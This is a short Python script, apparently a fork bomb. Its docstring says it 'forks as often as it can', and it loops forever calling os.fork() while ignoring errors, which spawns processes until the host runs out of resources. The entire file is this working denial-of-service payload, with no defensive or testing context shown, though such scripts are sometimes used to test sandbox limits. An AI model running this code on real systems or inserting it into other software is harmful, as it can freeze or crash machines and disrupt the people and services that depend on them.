"""Forks as often as it can."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
